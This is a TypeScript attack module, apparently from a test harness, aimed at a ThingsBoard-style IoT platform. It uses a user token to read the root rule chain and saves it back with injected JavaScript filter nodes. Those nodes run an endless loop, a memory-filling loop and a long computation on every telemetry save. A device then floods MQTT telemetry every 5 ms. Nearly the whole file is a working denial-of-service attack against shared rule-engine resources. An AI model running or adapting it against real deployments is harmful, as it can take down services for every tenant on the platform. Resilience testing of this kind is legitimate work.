import { setTimeout as pause } from "node:timers/promises";
import { connectAsync } from "mqtt";
import { type Attack, call, type Target } from "./target.ts";

/** Scripts that never end, fill the memory, or take long and answer in the end. */
const SCRIPTS = [
  "while (true) {}",
  "var all = []; while (true) { all.push(new Array(100000).fill(1)); }",
  "var sum = 0; for (var n = 0; n < 2e7; n++) { sum += n; } return sum > 0;",
];
/** Messages a second that the attacker's device sends into them, as many as its tenant profile lets it. */
const PAUSE_MS = 5;

/** A root chain with a script in front of each save, and a device that sends into it without a pause. */
export const slowChain: Attack = async (target, count) => {
  const { deviceToken: username, host, mqttPort: port } = target;
  count(`saved with ${await saveSlowRootChain(target)}`);
  const device = await connectAsync({ host, port, username });
  device.on("error", () => count("broken"));
  device.on("close", () => count("closed"));
  for (let number = 0; ; number++) {
    device.publish("v1/devices/me/telemetry", JSON.stringify({ n: number }), { qos: 0 });
    count("published");
    await pause(PAUSE_MS);
  }
};

interface MetaData {
  readonly nodes: readonly { readonly type: string }[];
  readonly connections: readonly { readonly fromIndex: number; readonly toIndex: number; readonly type: string }[];
}

async function saveSlowRootChain(target: Target): Promise<number> {
  const { userToken: token } = target;
  const { text: list } = await call(target, { method: "GET", path: "/api/ruleChains?pageSize=10&page=0", token });
  const chains = (JSON.parse(list) as { data: readonly { root: boolean; id: { id: string } }[] }).data;
  const id = chains.find(({ root }) => root)?.id.id;
  const { text } = await call(target, { method: "GET", path: `/api/ruleChain/${id}/metadata`, token });
  const metaData = JSON.parse(text) as MetaData;
  const from = metaData.nodes.findIndex(({ type }) => type.endsWith("TbMsgTypeSwitchNode"));
  const first = metaData.nodes.length;
  const scripts = SCRIPTS.map((jsScript, at) => ({
    type: "org.thingsboard.rule.engine.filter.TbJsFilterNode",
    name: `Slow ${at}`,
    debugMode: true,
    configuration: { jsScript },
    additionalInfo: {},
  }));
  const links = scripts.map((_, at) => ({ fromIndex: from, toIndex: first + at, type: "Post telemetry" }));
  const body = JSON.stringify({
    ...metaData,
    nodes: [...metaData.nodes, ...scripts],
    connections: [...metaData.connections, ...links],
  });
  return (await call(target, { method: "POST", path: "/api/ruleChain/metadata", token, body })).status;
}
